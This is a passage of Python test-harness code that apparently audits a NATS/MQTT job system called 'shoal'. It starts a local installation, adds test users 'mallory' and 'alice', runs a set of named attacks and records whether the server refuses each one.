        for attempt in range(60):  # admission may still be starting
            try:
                await admin.submit(victim, job_id="victim-job")
                if t.creds_dir:
                    own = {**victim, "user": name_of_creds(t.user).removeprefix("user-")}
                    await admin.submit(own, job_id=SIDECAR_JOB)
                    await admin.submit(own, job_id=ENDED_JOB)
                break
            except NoAdmissionError:
                if attempt == 59:
                    raise
                await asyncio.sleep(1.0)
    outcomes = []
    for name, identity, run in attacks(t):
        try:
            refused, how = await run(t)
        except Exception as exc:
            refused, how = False, f"audit error: {type(exc).__name__}: {exc}"
        outcomes.append(Outcome(attack=name, identity=identity, refused=refused, how=how))
    return outcomes, await legitimate_path(t)


def _wait_admitted(url: str, creds: str, timeout_s: float = 20.0) -> None:
    """Until the server admits ``creds`` (`shoal up` acts on the SIGHUP that `shoal creds
    add` sends it a moment later: a restart for an MQTT password, else nothing to do
    under the auth callout, a reload without it)."""
    import time

    async def admitted() -> bool:
        try:
            conn = await _Conn.open(url, creds)
        except Exception:
            return False
        await conn.close()
        return True

    deadline = time.monotonic() + timeout_s
    while not asyncio.run(admitted()):
        if time.monotonic() > deadline:
            raise RuntimeError(f"the server did not admit {creds} within {timeout_s}s")
        time.sleep(0.1)


@contextlib.contextmanager
def local_installation(
    state_dir: str,
    *,
    nodes: int = 2,
    mqtt: bool = True,
    revoke_after_s: float | None = None,
    env_extra: dict[str, str] | None = None,
) -> Any:
    """Start ``shoal up`` (the command a user runs) on ``state_dir``, add the audit's
    identities with ``shoal creds add`` (a user ``mallory`` with an MQTT password, a
    user ``alice``), yield the :class:`Target`, then stop it (SIGTERM).
    ``revoke_after_s``: the installation's ``SHOAL_SIDECAR_REVOKE_AFTER_S`` (None: its
    default). ``env_extra``: more ``SHOAL_*`` settings of the installation."""
    import os
    import signal
    import subprocess
    import time
    from pathlib import Path

    from shoal.commands.run import CLI_ARGV

    env = {k: v for k, v in os.environ.items() if not k.startswith(("SHOAL_", "NATS_"))}
    env["SHOAL_STATE_DIR"] = state_dir
    if revoke_after_s is not None:
        env["SHOAL_SIDECAR_REVOKE_AFTER_S"] = str(revoke_after_s)
    env.update(env_extra or {})
    argv = [*CLI_ARGV, "up", "--nodes", str(nodes), "--time-scale", "10", *(["--mqtt"] if mqtt else [])]
    err = open(Path(state_dir).parent / f"{Path(state_dir).name}-up.log", "w")  # noqa: SIM115
    proc = subprocess.Popen(
        argv, env=env, stdout=subprocess.PIPE, stderr=err, text=True, start_new_session=True
    )
    try:
        lines: dict[str, str] = {}
        deadline = time.monotonic() + 60
        assert proc.stdout is not None
        while "running" not in lines:
            line = proc.stdout.readline()
            if not line or time.monotonic() > deadline:
                raise RuntimeError(f"shoal up did not start; log in {err.name}")
            key, _, value = line.partition(":")
            lines[key.strip() if value else line.split(";")[0].strip()] = value.strip()
        for args in (["user", "mallory", "--mqtt-password", "mallory-pw"], ["user", "alice"]):
            subprocess.run([*CLI_ARGV, "creds", "add", *args], env=env, check=True, capture_output=True)
        creds = Path(state_dir) / "creds"
        mqtt_port = int(lines["MQTT"].rsplit(":", 1)[1]) if "MQTT" in lines else None
        _wait_admitted(lines["NATS"], str(creds / "user-alice.nk"))
        yield Target(
            url=lines["NATS"],
            prefix="shoal",
            admin=str(creds / "admin.nk"),
            user=str(creds / "user-mallory.nk"),
            victim="alice",
            node=str(creds / "node-node0.nk"),
            mqtt_port=mqtt_port,
            mqtt_user="mallory",
            mqtt_password="mallory-pw",
            creds_dir=str(creds),
            **({"revoke_wait_s": revoke_after_s + 15.0} if revoke_after_s is not None else {}),
        )
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGTERM)
            try:
                proc.wait(30)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
                proc.wait()
        err.close()
